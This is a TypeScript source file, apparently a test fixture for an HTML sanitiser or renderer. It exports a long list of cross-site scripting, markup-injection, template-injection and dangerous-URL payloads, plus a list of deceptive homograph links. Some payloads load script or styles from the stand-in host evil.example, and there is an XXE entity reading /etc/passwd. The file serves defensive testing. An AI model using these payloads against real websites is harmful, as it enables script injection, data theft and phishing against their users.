/** What somebody would write into a text to have it run, fetched or read as markup. `alert` tells when one of them does. */
export const VECTORS: readonly string[] = [
  // Elements that run
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script type="module">import("https://evil.example/x.js")</script>', '</script><script>alert(2)</script>',
  '<scr<script>ipt>alert(3)</scr</script>ipt>', '<script\u0000>alert(4)</script>', '<script/x>alert(5)</script >', '<script>\u2028alert(6)//', '<script async src="data:,alert(7)"></script>',
  // Handlers
  '<img src=x onerror=alert(8)>', '<img src=x onerror="alert(9)"', '<IMG """><SCRIPT>alert(10)</SCRIPT>">', '<body onload=alert(11)>', '<input autofocus onfocus=alert(12)>', '<details open ontoggle=alert(13)>x</details>',
  '<video><source onerror=alert(14)></video>', '<audio src onerror=alert(15)>', '<marquee onstart=alert(16)>x</marquee>', '<b onmouseover=alert(17)>b</b>', '<p onanimationstart=alert(18) style=animation:x>p</p>',
  '<select autofocus onfocus=alert(19)><option>x</select>', '<div onpointerrawupdate=alert(20)>x</div>', '<button popovertarget=p onbeforetoggle=alert(21)>x</button><p id=p popover>p</p>', '<a href=# onclick=alert(22)>x</a>',
  // Breaking out of an attribute, of a text, of a tag
  '" onmouseover="alert(23)', "' onfocus='alert(24)' autofocus='", '" autofocus onfocus=alert(25) x="', '"><img src=x onerror=alert(26)>', "'><svg onload=alert(27)>", '`onload=alert(28)`', ' onclick=alert(29) ',
  '"/><script>alert(30)</script><a b="', '</bdi><img src=x onerror=alert(31)><bdi>', '</figure></template><script>alert(32)</script>', '</title><script>alert(33)</script>', '</textarea><script>alert(34)</script>', '</style><script>alert(35)</script>',
  // Comments and CDATA
  '--><script>alert(36)</script><!--', '<!--><img src=x onerror=alert(37)>-->', '<!--[if IE]><script>alert(38)</script><![endif]-->', '--!><svg onload=alert(39)>', '<![CDATA[<script>alert(40)</script>]]>', ']]><img src=x onerror=alert(41)>',
  '<?xml version="1.0"?><x/>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<!-- <!-- --> <img src=x onerror=alert(42)> -->', '<?php alert(43) ?>', '<%= alert(44) %>',
  // SVG, MathML, and what changes when it is parsed twice
  '<svg onload=alert(45)>', '<svg><script>alert&#40;46&#41;</script></svg>', '<svg><animate onbegin=alert(47) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(48)"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(49)</script></svg>#x"></use></svg>', '<svg><foreignObject><iframe onload=alert(50)></iframe></foreignObject></svg>', '<svg><set attributeName=href to=javascript:alert(51) /></svg>',
  '<svg><style><img src=x onerror=alert(52)></style></svg>', '<svg></p><style><a id="</style><img src=x onerror=alert(53)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(54)&gt;">',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(55)">x</maction></math>', '<math href="javascript:alert(56)">x</math>', '<noscript><p title="</noscript><img src=x onerror=alert(57)>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(58)>',
  '<template shadowrootmode=open><script>alert(59)</script></template>', '<table><td background="javascript:alert(60)">x', '<select><template><img src=x onerror=alert(61)></template></select>', '<xmp><img src="</xmp><img src=x onerror=alert(62)>">',
  // Frames, objects, forms, and what fetches
  '<iframe src="javascript:alert(63)"></iframe>', '<iframe srcdoc="<script>parent.alert(64)</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=alert(65)&gt;">', '<object data="javascript:alert(66)"></object>', '<embed src="data:text/html,<script>alert(67)</script>">',
  '<form action="javascript:alert(68)"><button>x</button></form>', '<button formaction=javascript:alert(69)>x</button>', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(70)">', '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=prefetch href=https://evil.example/p>', '<img srcset="https://evil.example/1 1x">', '<picture><source srcset=//evil.example/2></picture>', '<a ping=https://evil.example/ping href=#>x</a>', '<portal src=//evil.example>', '<isindex action=javascript:alert(71)>',
  // Styles
  '<style>@import "//evil.example/x.css";</style>', '<p style="background:url(javascript:alert(72))">x</p>', '<p style=background-image:url(//evil.example/b.png)>x</p>', 'url(https://evil.example/c.png)', 'expression(alert(73))', '} * { background: url(//evil.example/d.png) } {',
  '<div style="width:expression(alert(74))">x</div>', '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>', '/*</style><img src=x onerror=alert(75)>*/', ';color:red;--x:url(//evil.example)', '<p style="position:fixed;inset:0;z-index:9999">covers</p>',
  // Entities, in all spellings
  '&lt;script&gt;alert(76)&lt;/script&gt;', '&#60;img src=x onerror=alert(77)&#62;', '&#x3c;img src=x onerror=alert(78)&#x3e;', '&#0000060script>alert(79)', '&amp;lt;script&amp;gt;', '%3Cscript%3Ealert(80)%3C/script%3E', '\\u003cscript\\u003ealert(81)\\u003c/script\\u003e',
  '\\x3cscript\\x3ealert(82)', '＜script＞alert(83)＜/script＞', '‹script›alert(84)', '+ADw-script+AD4-alert(85)+ADw-/script+AD4-', '\u00bcscript\u00bealert(86)\u00bc/script\u00be', '&NewLine;&Tab;&colon;', '<\u200bscript>alert(87)</\u200bscript>',
  // Templates, ours and others'
  '${alert(88)}', '${7*7}', '#{7*7}', '{{7*7}}', "{{constructor.constructor('alert(89)')()}}", '{{$on.constructor("alert(90)")()}}', '<%- 7*7 %>', '[[7*7]]', '*{7*7}', '@{alert(91)}', '{%raw%}x{%endraw%}', '`${alert(92)}`',
  '{n}', '{text}', '{name}', '{place}', '{whole}', '{office} {date} {total}', '%s %d %o', '$& $1 $$ $` $\'', '{__proto__}', '{constructor}',
  // Marks of the renderer
  '<!--?lit$123456789$-->', '?lit$0123456789$', 'lit$123456789$', '<!--lit-part-->', '<!--/lit-part-->', '<!--lit-part AEmR7W+R0Ak=--><img src=x onerror=alert(93)>', '{{lit-123456789}}', '$lit$', '<bdi $lit$="x">', '<?>', '<!--?-->', '_$litType$', '{"_$litType$":1,"strings":["<img src=x onerror=alert(94)>"],"values":[]}',
  // Addresses
  'javascript:alert(95)', 'JaVaScRiPt:alert(96)', ' javascript:alert(97)', '\u0001javascript:alert(98)', '\u001fjavascript:alert(99)', 'java\tscript:alert(100)', 'java\nscript:alert(101)', 'java\rscript:alert(102)', 'javascript\t:alert(103)', 'javascript:\u000aalert(104)',
  'javascript://example.org/%0aalert(105)', 'javascript:https://example.org/;alert(106)', 'javascript&colon;alert(107)', 'javascript&#58;alert(108)', 'javascript&#x3a;alert(109)', '&#106;avascript:alert(110)', 'jav&#x09;ascript:alert(111)', '\\6aavascript:alert(112)', 'javascript%3aalert(113)', 'ｊavascript:alert(114)', 'javascript：alert(115)',
  '\u00a0javascript:alert(116)', '\ufeffjavascript:alert(117)', 'view-source:javascript:alert(118)', 'feed:javascript:alert(119)', 'vbscript:msgbox(1)', 'VBScript:alert(120)', 'livescript:alert(121)', 'mocha:alert(122)',
  'data:text/html,<script>alert(123)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'DATA:image/svg+xml,<svg onload=alert(124)>', 'da\tta:text/html,x', 'blob:https://example.org/0b3e1c9a', 'blob:null/x', 'file:///etc/passwd', 'file://evil.example/share', 'filesystem:https://example.org/temporary/x.html',
  'about:blank', 'about:srcdoc', 'ftp://evil.example/', 'ws://evil.example/', 'mailto:x@evil.example', 'tel:+994', 'sms:1', 'intent://x#Intent;scheme=http;end', 'ms-office:x', 'chrome://settings', 'resource://x', 'jar:https://evil.example!/x', 'cid:x', 'urn:x:y', 'ipfs://x',
  'https://user:word@evil.example/', 'https://unhcr.org@evil.example/', 'https://:word@evil.example/', 'http://user@evil.example', 'https://unhcr.org%40:x@evil.example/', 'https:user:word@evil.example',
  '//evil.example', '///evil.example', '\\\\evil.example', '/\\evil.example', '/path', '?query', '#fragment', './file', '../up', 'evil.example', 'www.unhcr.org', 'localhost:8000', 'https://', 'http:', 'https:///', 'http://[::', 'http://%00/', 'https://a:99999/',
];

/** Addresses that may be links: they look odd, and lead where the browser says. */
export const ODD_LINKS: readonly string[] = [
  'https://unһcr.org/', 'https://xn--uncr-wod.org/', 'https://аррӏе.example/', 'https://unhcr.org.evil.example/', 'https://evil.example/?https://unhcr.org', 'https://evil.example/#@unhcr.org', 'http://0x7f.1/', 'http://2130706433/', 'http://[::ffff:7f00:1]/', 'https://evil.example:8443/',
  'HTTPS://EVIL.EXAMPLE/A', 'https:evil.example', 'https:/evil.example', 'https:\\\\evil.example\\x', ' https://evil.example/ ', 'ht\ntps://evil.example/', 'https://evil.example/"onclick="alert(1)', "https://evil.example/'x", 'https://evil.example/<script>alert(1)</script>', 'https://evil.example/`x`', 'https://evil.example/javascript:alert(1)',
  'https://evil.example/\u202egpj.exe', 'https://evil.example/?q=${alert(1)}', 'https://evil.example/{{7*7}}', 'https://@evil.example/', 'https://evil。example/', 'https://ｅvil.example/',
];
